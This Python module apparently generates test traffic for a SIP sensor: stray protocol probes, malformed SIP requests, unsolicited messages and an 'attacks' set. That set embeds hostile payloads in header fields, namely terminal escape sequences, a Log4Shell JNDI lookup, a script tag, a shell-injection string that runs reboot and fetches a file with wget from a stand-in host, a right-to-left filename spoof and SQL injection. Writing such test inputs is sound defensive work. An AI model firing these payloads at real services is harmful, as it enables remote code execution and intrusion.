"""What else arrives on a SIP port: other protocols, broken messages, attacks on the reader?"""

from __future__ import annotations

import struct

from tools.demo.messages import PBX, sip
from tools.demo.wire import SENSOR, Stage


def stun(stage: Stage) -> bytes:
    """Return a binding request (RFC 8489)."""
    return struct.pack(">HHI", 1, 0, 0x2112A442) + stage.random.randbytes(12)


def dns() -> bytes:
    """Return a query for the name server's version."""
    return bytes.fromhex("1234010000010000000000000776657273696f6e0462696e640000100003")


def tls_hello(stage: Stage) -> bytes:
    """Return a ClientHello (RFC 8446) with one extension, the server's name."""
    name = b"pbx.example"
    sni = struct.pack(">HHHBH", 0, len(name) + 5, len(name) + 3, 0, len(name)) + name
    hello = (
        b"\x03\x03" + stage.random.randbytes(32) + b"\0" + b"\x00\x04\x13\x01\x13\x02" + b"\x01\0"
    )
    hello += struct.pack(">H", len(sni)) + sni
    body = b"\x01" + len(hello).to_bytes(3, "big") + hello
    return b"\x16\x03\x01" + struct.pack(">H", len(body)) + body


def junk(stage: Stage) -> list[bytes]:
    """Return one datagram of each other protocol that is seen on 5060."""
    return [
        stun(stage),
        dns(),
        b"GET / HTTP/1.1\r\nHost: " + SENSOR.encode() + b"\r\nUser-Agent: zgrab/0.x\r\n\r\n",
        b"OPTIONS / RTSP/1.0\r\nCSeq: 1\r\n\r\n",
        b'M-SEARCH * HTTP/1.1\r\nHOST: 239.255.255.250:1900\r\nMAN: "ssdp:discover"\r\n'
        b"MX: 1\r\nST: ssdp:all\r\n\r\n",
        bytes.fromhex(
            "302602010104067075626c6963a019020101020100020100300e300c06082b060102010101000500"
        ),
        b"\xe3" + bytes(47),
        b"\0\0\0\0\0\1\0\0stats\r\n",
        b"",
        b"\r\n",
        bytes(4),
        b"\x80\x00" + stage.random.randbytes(10) + stage.random.randbytes(160),
        stage.random.randbytes(64),
        b"help\r\n",
    ]


def base(stage: Stage, host: str, method: str = "OPTIONS", **change: str | None) -> bytes:
    """Return a sound request in which the fields in `change` were replaced or left out."""
    fields: dict[str, str | None] = {
        "Via": f"SIP/2.0/UDP {host}:5060;branch=z9hG4bK{stage.random.getrandbits(48):012x};rport",
        "From": f"<sip:a@{host}>;tag={stage.random.getrandbits(32):08x}",
        "To": f"<sip:100@{SENSOR}>",
        "Call-ID": f"{stage.random.getrandbits(64):016x}",
        "CSeq": f"1 {method}",
        "Max-Forwards": "70",
        "User-Agent": "Test Agent",
        "Content-Length": "0",
    }
    fields |= {name.replace("_", "-"): value for name, value in change.items()}
    start = fields.pop("start", None) or f"{method} sip:100@{SENSOR} SIP/2.0"
    return sip(start, *(f"{name}: {value}" for name, value in fields.items() if value is not None))


def malformed(stage: Stage, host: str) -> list[bytes]:
    """Return requests that are wrong, each in a way of its own."""
    sound = base(stage, host)
    return [
        sound.replace(b"\r\n", b"\n"),
        base(stage, host, Via=None),
        base(stage, host, From=None, To=None),
        base(stage, host, Call_ID=None),
        base(stage, host, CSeq="99999999999 OPTIONS"),
        base(stage, host, CSeq="1 INVITE"),
        base(stage, host, Content_Length="-5"),
        base(stage, host, Content_Length="4096"),
        base(stage, host, Max_Forwards="many"),
        base(stage, host, method="F00"),
        base(stage, host, start=f"OPTIONS sip:100@{SENSOR} SIP/7.0"),
        base(stage, host, start=f"OPTIONS  sip:100@{SENSOR}  SIP/2.0"),
        base(stage, host, start="OPTIONS <sip:a b@> SIP/2.0"),
        sound.replace(b"To: ", b"To : "),
        sound.replace(b"From: ", b"From: \x00"),
        sound.replace(b"Max-Forwards: 70", b"no colon in this line"),
        sound.replace(b"Test Agent", b"Caf\xe9 \xff\xfe"),
        sound.replace(b"Test Agent", b"folded\r\n over\r\n\tthree lines"),
        sound + b"bytes behind the end",
        sound[: len(sound) // 2],
        sound.replace(b"Call-ID: ", b"Call-ID: first\r\nCall-ID: "),
        base(stage, host, User_Agent="A" * 2000),
        b"\r\n\r\n" + sound,
        sound.replace(b"Via:", b"v:").replace(b"From:", b"f:").replace(b"To:", b"t:"),
    ]


def attacks(stage: Stage, host: str) -> list[bytes]:
    """Return requests whose fields aim at whoever reads them: a terminal, a shell, a database."""
    return [
        base(stage, host, User_Agent="\x1b]0;owned\x07\x1b[2J\x1b[1;31mfriendly"),
        base(stage, host, User_Agent="\x9b31mred\x9b0m\x90q\x9c"),
        sip_utf8(base(stage, host, User_Agent="PBX@BIDI@gpj.exe")),
        base(stage, host, User_Agent="[bold red]markup[/] [/nothing] [@click=app.quit]x[/]"),
        base(stage, host, User_Agent="${jndi:ldap://203.0.113.99/a}"),
        base(stage, host, User_Agent="<script>alert(1)</script>"),
        base(stage, host, User_Agent="$(reboot)`id`;wget http://203.0.113.99/x"),
        base(stage, host, method="REGISTER", From="\"'or''='\" <sip:'or''='@" + SENSOR + ">;tag=1"),
    ]


def sip_utf8(message: bytes) -> bytes:
    """Put a right-to-left override and a zero-width space where the message says so."""
    return message.replace(b"@BIDI@", "\u202e\u200b".encode())


def multipart(stage: Stage, host: str) -> bytes:
    """Return an INVITE whose body has two parts (RFC 5621)."""
    body = (
        "--unique\r\nContent-Type: application/sdp\r\n\r\n"
        "v=0\r\no=- 1 1 IN IP4 10.20.30.40\r\ns=-\r\nc=IN IP4 10.20.30.40\r\nt=0 0\r\n"
        "m=audio 4000 RTP/AVP 0\r\n\r\n"
        "--unique\r\nContent-Type: application/resource-lists+xml\r\n\r\n"
        "<resource-lists/>\r\n--unique--\r\n"
    )
    head = base(
        stage, host, method="INVITE",
        Content_Type="multipart/mixed;boundary=unique", Content_Length=str(len(body)),
    )  # fmt: skip
    return head + body.encode()


def unsolicited(stage: Stage, host: str) -> list[bytes]:
    """Return requests outside any dialog that nobody asked for."""
    text = "Your voicemail is full, call +1 202 555 0143"
    head = base(
        stage, host, method="MESSAGE", Content_Type="text/plain", Content_Length=str(len(text))
    )
    return [
        head + text.encode(),
        base(stage, host, method="SUBSCRIBE", Event="presence", Expires="0"),
        base(stage, host, method="NOTIFY", Event="message-summary", Subscription_State="active"),
        base(stage, host, method="REFER", Refer_To=f"<sip:9011442079460123@{SENSOR}>"),
        base(stage, host, method="PUBLISH", Event="presence"),
    ]


def send_all(stage: Stage, at: float, host: str, datagrams: list[bytes], step: float) -> None:
    """Send datagrams one after the other, each from a port of its own."""
    for number, payload in enumerate(datagrams):
        stage.udp(at + step * number, (host, 30000 + stage.random.randrange(20000)), PBX, payload)
